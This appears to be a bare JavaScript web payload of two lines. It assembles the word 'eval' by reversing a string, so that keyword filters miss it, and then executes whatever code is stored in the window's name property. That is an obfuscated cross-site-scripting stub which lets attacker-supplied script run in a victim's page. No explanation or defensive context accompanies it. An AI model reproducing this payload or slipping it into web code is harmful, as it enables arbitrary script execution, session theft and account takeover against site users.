const word = Array.from('lave', (c) => c).reverse().join('');
self[word](self.name);
